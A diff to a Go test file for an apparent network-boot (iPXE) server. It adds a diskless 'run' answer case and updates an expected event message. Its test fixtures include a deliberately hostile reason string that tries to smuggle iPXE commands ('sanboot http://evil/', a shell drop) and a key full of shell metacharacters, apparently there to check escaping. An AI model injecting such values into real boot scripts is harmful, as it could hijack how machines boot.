@@ -66,6 +66,8 @@ func answers() fakeSource {
 	// configured brings its Ignition config along.
 	configured := install
 	configured.Initrd, configured.Configured = []boot.Blob{initrd, nbp}, true
+	run := configured
+	run.Action, run.Name, run.Code, run.Reason = boot.Run, "w1", "diskless", "it is diskless and runs in its memory"
 	discover := install
 	discover.Action, discover.Name, discover.Code, discover.Reason = boot.Discover, "", "unknown-machine", "it is not in cluster.yaml"
 	local := boot.Answer{Action: boot.Local, Name: "cp1", Code: "not-armed", Reason: "it is not armed", LocalBoot: "exit"}
@@ -76,7 +78,7 @@ func answers() fakeSource {
 	hostile := local
 	hostile.Reason = "it says \"x\" || sanboot http://evil/ ; ${net0/mac} `a` \\ # é\nshell"
 	return fakeSource{
-		"configured": configured, "install": install, "broken": install, "discover": discover, "exit": local, "sanboot": sanboot, "poweroff": poweroff, "no-image": told, "hostile": hostile,
+		"configured": configured, "run": run, "install": install, "broken": install, "discover": discover, "exit": local, "sanboot": sanboot, "poweroff": poweroff, "no-image": told, "hostile": hostile,
 		"none":                      {Action: boot.None, Code: "conflict", Refused: true, Reason: "it shows marks of two machines"},
 		`a b"&${mac}#;|%\` + "'<x>": install,
 	}
@@ -120,7 +122,7 @@ func body(t *testing.T, r *http.Response) string {
 // The goldens are what iPXE runs; review their diff.
 func TestScripts(t *testing.T) {
 	h := newHandler()
-	for _, serial := range []string{"install", "configured", "discover", "exit", "sanboot", "poweroff", "none", "no-image", "hostile"} {
+	for _, serial := range []string{"install", "configured", "run", "discover", "exit", "sanboot", "poweroff", "none", "no-image", "hostile"} {
 		t.Run(serial, func(t *testing.T) {
 			r := get(h, "GET", "/boot.ipxe?mac=52:54:00:00:00:01&uuid=01020304-0506-0708-090A-0B0C0D0E0FFF&platform=efi&serial="+serial)
 			got := body(t, r)
@@ -315,7 +317,7 @@ func TestEventsNameTheStages(t *testing.T) {
 	get(h, "GET", "/ignition"+who)
 	get(h, "GET", "/ignition?mac=52:54:00:00:00:01&serial=exit")
 	want := []string{"script: install: it is armed (armed)", "kernel: fetches flatcar_production_pxe.vmlinuz",
-		"ignition: sent the installer's config for install", "ignition: refused: it is not armed (not-armed)"}
+		"ignition: sent the config for install", "ignition: refused: it is not armed (not-armed)"}
 	for i, e := range rec {
 		if got := string(e.Stage) + ": " + e.Detail; i >= len(want) || got != want[i] {
 			t.Errorf("event %d is %q", i, got)
